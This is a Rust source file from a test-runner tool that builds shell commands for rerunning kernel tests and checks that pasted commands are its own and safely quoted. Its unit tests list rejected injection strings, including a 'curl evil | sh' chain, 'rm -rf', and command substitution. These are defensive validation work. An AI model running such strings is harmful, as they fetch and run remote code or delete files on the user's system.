// SPDX-License-Identifier: GPL-2.0-only
//! The command that shows something again, to be pasted into a shell.

use patchbed_host::process::quote;

use crate::program;
use crate::result::JobResult;

/// How commands of ours begin, whether the program is installed or not.
const CALLS: [&str; 2] = ["cargo xtask ", "patchbed "];

/// Returns the command that runs these scenarios and tests, or all where none is named, on
/// these checkouts and configs. `options` are what follows, as it is typed.
pub(super) fn command<'a>(
    tests: impl IntoIterator<Item = &'a str>,
    checkouts: &[&str],
    configs: &[&str],
    options: &str,
) -> String {
    let mut command = format!("{} test", program::name());
    for test in tests {
        // Only tests of the tree's own are named by their TARGET as well.
        let flag = if test.contains(':') {
            " --kselftest"
        } else {
            ""
        };
        command += &format!("{flag} {}", quote(test));
    }
    for (flag, names) in [("--checkouts", checkouts), ("--config", configs)] {
        if !names.is_empty() {
            command += &format!(" {flag} {}", quote(&names.join(",")));
        }
    }
    command + options
}

/// Returns whether a command that somebody else wrote down is one of ours, each word of it
/// as we would quote it: then a shell takes it for nothing else.
pub(super) fn is_one(command: &str) -> bool {
    let mut words = vec![String::new()];
    let (mut quoted, mut characters) = (false, command.chars());
    while let (Some(character), Some(word)) = (characters.next(), words.last_mut()) {
        match character {
            ' ' if !quoted => words.push(String::new()),
            '\'' => quoted = !quoted,
            '\\' if !quoted => word.extend(characters.next()),
            other => word.push(other),
        }
    }
    let anew: Vec<String> = words.iter().map(|word| quote(word)).collect();
    CALLS.iter().any(|call| command.starts_with(call)) && anew.join(" ") == command
}

/// Returns the command that runs a job.
pub(super) fn of_job(job: &JobResult, options: &str) -> String {
    let JobResult {
        test,
        checkout,
        config,
        ..
    } = job;
    command([test.as_str()], &[checkout], &[config], options)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_ours_when_a_shell_finds_one_command_in_it() {
        for good in [
            "cargo xtask test",
            "patchbed test --repeat 2",
            "cargo xtask test 'a b' --tree 'it'\\''s $(x)'",
        ] {
            assert!(is_one(good), "{good}");
        }
        for bad in [
            "",
            "rm -rf x",
            "patchbedtest",
            "cargo xtask test; curl evil | sh #",
            "cargo xtask test $(x)",
            "cargo xtask test 'a",
            "cargo xtask test a\nrm",
            "cargo xtask  test",
        ] {
            assert!(!is_one(bad), "{bad}");
        }
    }

    #[test]
    fn what_a_shell_would_take_for_something_else_is_quoted() {
        assert_eq!(command([], &[], &[], ""), "cargo xtask test");
        assert_eq!(
            command(["a", "pci:b c"], &["base", "x"], &["fast"], " --tree K"),
            "cargo xtask test a --kselftest 'pci:b c' --checkouts base,x --config fast --tree K"
        );
    }
}
